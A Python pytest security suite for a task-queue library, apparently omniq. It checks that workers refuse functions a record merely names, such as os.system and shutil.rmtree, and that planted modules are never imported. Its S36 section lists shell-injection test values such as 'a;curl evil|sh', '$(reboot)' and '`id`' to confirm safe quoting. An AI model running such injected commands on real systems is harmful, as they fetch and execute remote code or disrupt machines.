"""What a worker runs is closed by default: a record can name any function, and runs none of them.

The attacks are generated: every function that this process has loaded, of omniq, of the installed
packages and of the standard library, and those that a package would have if it were imported.
"""

from __future__ import annotations

import importlib.metadata
import itertools
import os
import re
import shlex
import subprocess
import sys
import warnings
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from types import FunctionType, ModuleType
from typing import Any

import pytest

import tests.security.shop_package as shop
from omniq import AsyncTaskQueue, TaskStatus, UnmarkedFunctionWarning, events
from omniq.errors import FunctionNotFound
from omniq.models import Runnable
from omniq.operations.explain import explain
from omniq.storage.memory import MemoryStorage
from omniq.tasks.function_lookup import MARK, is_path
from omniq.tasks.functions import FunctionCache
from omniq.tasks.passed_functions import PASSED, PassedFunctions
from omniq.testing.builders import a_task
from omniq.worker import AsyncWorkerPool
from tests.security import sample_tasks
from tests.security.worker_entries import (
    ALL,
    LAST,
    OPEN,
    plant,
    through_async_pool,
    through_lifespan,
    through_worker,
)

SHOP = shop.__name__
FOLDER = Path(shop.__file__).parent


def loaded_paths() -> Iterator[str]:
    """Every name of every loaded module that has a callable, and the methods of its classes."""
    for module_name, module in list(sys.modules.items()):
        # By type: other objects that are stored as modules may say that they are one.
        if not issubclass(type(module), ModuleType):
            continue
        for name, value in list(object.__getattribute__(module, "__dict__").items()):
            if callable(value):
                yield f"{module_name}.{name}"
            if issubclass(type(value), type):
                for method in list(vars(value)):
                    yield f"{module_name}.{name}.{method}"


def marked_paths() -> set[str]:
    """The paths of marked functions, also those by another name of their module, or of one that imports them."""
    return {
        path
        for module_name, module in list(sys.modules.items())
        if issubclass(type(module), ModuleType)
        for name, value in list(object.__getattribute__(module, "__dict__").items())
        if type(value) is FunctionType and MARK in value.__dict__
        for path in (f"{value.__module__}.{value.__qualname__}", f"{module_name}.{name}")
    }


def unloaded_paths() -> list[str]:
    """Functions in the source of installed packages that this process has not imported."""
    return [path for module, path in installed_paths() if module not in sys.modules]


@cache
def installed_paths() -> list[tuple[str, str]]:
    """The modules of installed packages and the paths of their functions, by their source."""
    return list(read_installed_paths())


def read_installed_paths() -> Iterator[tuple[str, str]]:
    for distribution in importlib.metadata.distributions():
        for file in distribution.files or ():
            parts = file.with_suffix("").parts
            module = ".".join(parts[:-1] if parts[-1] == "__init__" else parts)
            if file.suffix != ".py" or len(parts) > 2:
                continue
            try:
                text = Path(str(distribution.locate_file(file))).read_text(encoding="utf-8")
            except (OSError, UnicodeDecodeError):
                continue
            for name in re.findall(r"^(?:async )?def (\w+)", text, re.MULTILINE):
                yield module, f"{module}.{name}"


@cache
def every_path() -> list[str]:
    """The paths of functions that are loaded and of those that are installed, as of the first call."""
    return sorted(path for path in {*loaded_paths(), *unloaded_paths()} if is_path(path))


def below(path: str, modules: list[str]) -> bool:
    return any(path.startswith(f"{module}.") for module in modules)


# S31: any function of any package


@pytest.mark.security("S31")
@pytest.mark.timeout(120)
@pytest.mark.parametrize("every", [7, pytest.param(1, marks=pytest.mark.deep)])
def test_of_all_loaded_functions_a_pool_without_modules_has_only_the_marked_ones(every):
    functions = FunctionCache(passed=PassedFunctions())
    marked = marked_paths()
    paths = {path for path in loaded_paths() if is_path(path)}
    assert len(paths) > 10_000
    assert {"omniq.testing.keeper._start", "omniq.testing.builders.a_task"} & paths
    for path in [*sorted(paths)[::every], *sorted(paths & marked)]:
        try:
            found = functions.resolve(path)
        except FunctionNotFound:
            assert not functions.runnable.accepts(path), path
        else:
            assert MARK in found.__dict__, path
            assert f"{found.__module__}.{found.__qualname__}" in marked or "." in found.__qualname__
            assert not any(part.startswith("_") for part in found.__qualname__.split(".")), path


@pytest.mark.security("S31")
@pytest.mark.timeout(120)
def test_no_function_of_a_package_that_is_not_imported_is_looked_up():
    functions = FunctionCache(passed=PassedFunctions())
    before = set(sys.modules)
    paths = {path for path in unloaded_paths() if is_path(path)}
    assert len(paths) > 1_000
    for path in sorted(paths):
        assert not functions.runnable.accepts(path), path
        with pytest.raises(FunctionNotFound):
            functions.resolve(path)

    assert set(sys.modules) == before


@pytest.mark.security("S31")
@pytest.mark.timeout(120)
@pytest.mark.parametrize("entry", ALL, ids=lambda entry: entry.__name__)
async def test_planted_tasks_of_installed_functions_wait_untouched(entry):
    """Through every entry: the pools, the worker, the lifespan of a web application."""
    every = every_path()
    named, marked = ["tests.security.sample_tasks"], marked_paths()
    paths = [
        path
        for path in [*every[::97], "omniq.testing.keeper._start", "click.termui.edit", "os.system"]
        if not below(path, named) and path not in marked and path not in PASSED
    ]
    assert len(paths) > 200
    async with MemoryStorage() as storage:
        # Imports what a worker needs itself.
        await plant(storage, [])
        await entry(storage, None)
    before = set(sys.modules)
    async with MemoryStorage() as storage:
        ids = await plant(storage, paths)
        await entry(storage, None)
        tasks = [await storage.get_task(task_id) for task_id in ids]
        (last,) = await storage.list_tasks(func_path=LAST)

    assert last.status is TaskStatus.SUCCESS
    for task in tasks:
        assert task is not None
        assert (task.status, task.attempts, task.token, task.owner) == (
            TaskStatus.PENDING,
            0,
            0,
            None,
        ), task.func_path
    new = {name for name in set(sys.modules) - before if not name.startswith("omniq")}
    assert not {name for name in new if any(path.startswith(f"{name}.") for path in paths)}


# S32: beside the tasks of a module that was named


ALLOWED = {
    (): {"marked", "helpers.marked_below"},
    (SHOP,): {"marked", "plain", "Tools.static", "helpers.marked_below"},
    (f"{SHOP}.helpers",): {"helpers.marked_below", "helpers.wipe"},
    (SHOP, f"{SHOP}.helpers"): {
        "marked",
        "plain",
        "Tools.static",
        "helpers.marked_below",
        "helpers.wipe",
    },
    (f"{SHOP}.Tools",): {"Tools.static"},
    (f"{SHOP}._private", f"{SHOP}._Hidden"): set(),
    ("tests.security",): {"marked", "helpers.marked_below"},
    ("tests.security.sample_tasks",): set(),
}


def shop_paths() -> list[str]:
    """Every name in the package and below, whatever it is; and names that nothing has."""
    names = [
        *(f"{SHOP}.{name}" for name in vars(shop)),
        *(f"{SHOP}.helpers.{name}" for name in vars(sys.modules[f"{SHOP}.helpers"])),
        *(f"{SHOP}.Tools.{name}" for name in vars(shop.Tools)),
        *(f"{SHOP}._Hidden.{name}" for name in vars(shop._Hidden)),
        f"{SHOP}.not_imported.marked",
        f"{SHOP}.not_there.f",
        f"{SHOP}.not_there",
        f"{SHOP}.helpers.RAN.append",
        f"{SHOP}.RAN.append",
        f"{SHOP}.marked.__call__",
        f"{SHOP}.helpers.wipe.__globals__",
    ]
    return [name for name in names if is_path(name)]


def entry_with_modules(entry: Any, modules: tuple[str, ...]) -> Any:
    """In `make test` all of `ALLOWED` through a pool and a worker, and two through the other entries."""
    is_short = entry in (through_async_pool, through_worker) or modules in ((), (SHOP,))
    return pytest.param(
        entry,
        modules,
        id=f"{entry.__name__}-{','.join(modules) or 'none'}",
        marks=() if is_short else pytest.mark.deep,
    )


@pytest.mark.deep_on(
    "tests.security", "tests.security.shop_package,tests.security.shop_package.helpers"
)
@pytest.mark.security("S32")
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("entry", "modules"),
    list(itertools.starmap(entry_with_modules, itertools.product(ALL, ALLOWED))),
)
async def test_only_tasks_and_public_functions_of_the_named_modules_run(entry, modules):
    is_of_modules = all(name in sys.modules for name in modules)
    if entry not in OPEN and not (modules and is_of_modules):
        pytest.skip("it needs modules")
    shop.RAN.clear()
    sys.modules.pop(f"{SHOP}.not_imported", None)
    async with MemoryStorage() as storage:
        await plant(storage, shop_paths())
        await entry(storage, None if not modules else [*modules, "tests.security.sample_tasks"])
        assert (await storage.stats()).dead == 0

    expected = set(ALLOWED[modules])
    is_importing = entry in (through_worker, through_lifespan)
    if is_importing and any(name in (SHOP, "tests.security") for name in modules):
        # These import the modules with tasks below a package when they start.
        expected.add("not_imported.marked")
    assert sorted(shop.RAN) == sorted(expected)
    is_imported = f"{SHOP}.not_imported" in sys.modules
    assert is_imported == ("not_imported.marked" in expected)


@pytest.mark.security("S32")
@pytest.mark.timeout(60)
def test_what_is_claimed_is_not_more_than_what_is_named():
    for modules in ALLOWED:
        runnable = FunctionCache(modules or None, PassedFunctions()).runnable
        assert isinstance(runnable, Runnable)
        assert runnable.modules is not None
        assert not runnable.accepts("click.termui.edit")


# S33: what this process has passed, and what only a record names


@pytest.mark.security("S33")
@pytest.mark.timeout(60)
@pytest.mark.parametrize("entry", OPEN, ids=lambda entry: entry.__name__)
async def test_a_plain_function_runs_once_this_process_has_passed_it(entry, monkeypatch):
    monkeypatch.setattr(PASSED, "_paths", {})
    shop.RAN.clear()
    async with MemoryStorage() as storage:
        await plant(storage, [f"{SHOP}.plain"])
        await entry(storage, None)
        assert shop.RAN == []

        async with AsyncTaskQueue(storage.another()) as queue:
            with pytest.warns(UnmarkedFunctionWarning, match="mark it with @task"):
                await queue.enqueue(shop.plain)
        await entry(storage, None)
    assert shop.RAN == ["plain", "plain"]


@pytest.mark.security("S33")
@pytest.mark.timeout(60)
@pytest.mark.parametrize("way", ["enqueue", "path", "options", "many", "submit", "schedule"])
async def test_every_way_into_a_queue_passes_the_function(way, monkeypatch):
    monkeypatch.setattr(PASSED, "_paths", {})
    shop.RAN.clear()
    async with AsyncTaskQueue(MemoryStorage()) as queue:
        pool = queue.worker()
        ways = {
            "enqueue": lambda: queue.enqueue(shop.plain),
            "path": lambda: queue.enqueue(f"{SHOP}.plain"),
            "options": lambda: queue.options(priority=3).enqueue(shop.plain),
            "many": lambda: queue.enqueue_many([(shop.plain,)]),
            "submit": lambda: pool.submit(shop.plain),
            "schedule": lambda: queue.schedules.add("s", shop.plain, interval=3600),
        }
        with pytest.warns(UnmarkedFunctionWarning):
            await ways[way]()
        if way == "schedule":
            await queue.schedules.trigger("s")
        await pool.run_until_empty()
    assert shop.RAN == ["plain"]


@pytest.mark.security("S33")
@pytest.mark.timeout(60)
@pytest.mark.parametrize("entry", OPEN, ids=lambda entry: entry.__name__)
async def test_a_refusal_wins_over_what_this_process_has_passed(entry, monkeypatch):
    monkeypatch.setattr(PASSED, "_paths", {})
    shop.RAN.clear()
    refused = [
        f"{SHOP}._private",
        f"{SHOP}._private_and_marked",
        f"{SHOP}.alias_of_private",
        f"{SHOP}.imported_helper",
        f"{SHOP}.Tools._private",
        f"{SHOP}._Hidden.static",
        "omniq.testing.builders.a_task",
        "click.termui.edit",
        "os.system",
        "shutil.rmtree",
    ]
    async with MemoryStorage() as storage:
        async with AsyncTaskQueue(storage.another()) as queue:
            with warnings.catch_warnings():
                # Some are found and not marked.
                warnings.simplefilter("ignore", UnmarkedFunctionWarning)
                handles = [await queue.enqueue(path) for path in refused]
        await plant(storage, refused)
        await entry(storage, None)
        tasks = [await storage.get_task(handle.id) for handle in handles]

    assert shop.RAN == []
    found = {(task.status, task.attempts) for task in tasks if task is not None}
    assert found == {(TaskStatus.PENDING, 0)}


@pytest.mark.security("S33")
async def test_what_is_refused_waits_and_the_log_and_explain_say_what_to_write():
    async with MemoryStorage() as storage:
        planted, *_ = await plant(storage, [f"{SHOP}.plain", f"{SHOP}._private"])
        private = (await storage.list_tasks(func_path=f"{SHOP}._private"))[0].id
        pool = AsyncWorkerPool(storage)
        emitted: list[events.Event] = []
        pool.events.subscribe(emitted.append)
        async with storage.another() as other:
            await pool.start()
            reasons = [(await explain(other, id)).reasons[0] for id in (planted, private)]
            await pool.run_until_empty()

    missing = {
        event.func_path: event.reason
        for event in emitted
        if isinstance(event, events.FunctionMissing)
    }
    assert "mark it, or name its module" in missing[f"{SHOP}.plain"]
    assert "rename the function" in missing[f"{SHOP}._private"]
    assert [reason.code for reason in reasons] == ["no_worker_for_function"] * 2
    assert "rename the function" in reasons[1].hint


# S34: nothing is imported because a record names it


@pytest.mark.security("S34")
@pytest.mark.timeout(60)
@pytest.mark.parametrize("entry", ALL, ids=lambda entry: entry.__name__)
async def test_no_record_imports_a_module(entry, tmp_path, monkeypatch):
    (tmp_path / "planted_package").mkdir()
    for name in ("planted_module.py", "planted_package/__init__.py", "planted_package/tasks.py"):
        (tmp_path / name).write_text(f"open({str(tmp_path / 'imported')!r}, 'w')\ndef f(): ...\n")
    monkeypatch.syspath_prepend(tmp_path)
    paths = [
        "planted_module.f",
        "planted_package.f",
        "planted_package.tasks.f",
        "antigravity.geohash",
        "this.s",
        "unittest.__main__.main",
        "idlelib.idle.f",
    ]
    async with MemoryStorage() as storage:
        async with storage.another() as dead:
            # Held by a worker that is gone: the next one calls hooks for it.
            await dead.enqueue_many([a_task(func_path=path, max_crashes=0) for path in paths])
            await dead.renew(lease=0.01)
            await dead.reserve(20)
        await plant(storage, paths)
        await entry(storage, None)

    assert not (tmp_path / "imported").exists()
    assert not {"planted_module", "planted_package", "antigravity"} & set(sys.modules)


# S35: the current folder

EVIL = "open({mark!r}, 'a').write({name!r})\nraise ImportError\n"
TASKS = """
import helper_of_tasks
from omniq import task

@task
def work():
    print("RAN", flush=True)
"""
OMNIQ = str(Path(sys.executable).with_name("omniq"))


@pytest.fixture
def folder(tmp_path):
    """A folder with a user's tasks, and files with the names of all installed packages."""
    folder = tmp_path / "project"
    folder.mkdir()
    for distribution in importlib.metadata.distributions():
        for file in distribution.files or ():
            top = file.parts[0].removesuffix(".py")
            if top.isidentifier() and top not in ("omniq", "tests") and file.suffix == ".py":
                text = EVIL.format(mark=str(tmp_path / "mark"), name=top + " ")
                (folder / f"{top}.py").write_text(text)
    (folder / "tasks.py").write_text(TASKS)
    (folder / "helper_of_tasks.py").write_text("")
    return folder


@pytest.mark.slow
@pytest.mark.security("S35")
@pytest.mark.timeout(120)
@pytest.mark.parametrize(
    ("command", "processes"),
    [
        ([OMNIQ], "1"),
        pytest.param([OMNIQ], "2", marks=pytest.mark.deep),
        pytest.param([sys.executable, "-P", "-m", "omniq"], "1", marks=pytest.mark.deep),
        ([sys.executable, "-P", "-m", "omniq"], "2"),
    ],
)
def test_a_file_in_the_current_folder_does_not_replace_an_installed_package(
    folder, command, processes
):
    assert len(list(folder.glob("*.py"))) > 20
    if "-P" in command:
        (folder / "helper_of_tasks.py").rename(folder.parent / "helper_of_tasks.py")
    environment = {
        **os.environ,
        "OMNIQ_URL": f"sqlite:///{folder}/store.db",
        "PYTHONPATH": os.pathsep.join([*filter(None, sys.path), str(folder.parent)]),
    }
    subprocess.run(
        [*command, "enqueue", "tasks.work"],
        cwd=folder,
        env=environment,
        check=True,
        timeout=60,
        capture_output=True,
    )
    worker = subprocess.Popen(
        [*command, "worker", "tasks", "--processes", processes],
        cwd=folder,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    lines: list[str] = []
    assert worker.stdout is not None
    try:
        for line in worker.stdout:
            lines.append(line)
            if "RAN" in line:
                break
    finally:
        worker.terminate()
        worker.communicate(timeout=30)

    text = "".join(lines)
    assert "RAN" in text, text
    assert str(folder / "tasks.py") in text
    assert not (folder.parent / "mark").exists(), (folder.parent / "mark").read_text()


# S36: what is shown to be copied

HOSTILE = [
    "a;curl evil|sh",
    "$(reboot)",
    "`id`",
    "a b",
    "--url=sqlite:///evil",
    "a'b",
    "a\nb",
    "-x",
]


@pytest.mark.security("S36")
@pytest.mark.parametrize("text", HOSTILE)
async def test_a_hint_is_one_command_with_the_text_as_one_argument(text):
    from omniq.operations.formatting import as_argument

    command = f"omniq queues resume {as_argument(text)}"
    words = shlex.split(command)

    assert words[:3] == ["omniq", "queues", "resume"]
    assert words[-1] == text
    assert len(words) == (5 if text.startswith("-") else 4)


@pytest.mark.security("S36")
async def test_a_hint_does_not_name_a_module_that_no_worker_has():
    async with MemoryStorage() as storage, storage.another() as worker:
        (planted,) = await storage.enqueue_many([a_task(func_path="click.termui.edit")])
        known = await storage.enqueue(a_task(func_path="shop.mail.added_later"))
        other_queue = await storage.enqueue(a_task(func_path="click.termui.edit", queue="q"))
        alone = (await explain(storage, planted)).reasons
        await worker.renew(
            concurrency=1,
            queues=("default",),
            runnable=Runnable(
                modules=("shop.mail",), excluded=frozenset({"shop.mail.added_later"})
            ),
        )
        hints = [
            (await explain(storage, task_id)).reasons[0].hint
            for task_id in (planted, known, other_queue)
        ]

    assert all("click" not in reason.hint for reason in alone)
    assert all("click" not in hint for hint in (hints[0], hints[2]))
    assert "mark the function with @task" in hints[0]
    assert hints[1] == (
        "restart the worker if its shop.mail is older; if the function was renamed, mark the new one with "
        "@task(aliases=['shop.mail.added_later'])"
    )


def test_the_sample_has_a_task():
    assert MARK in sample_tasks.good.__dict__
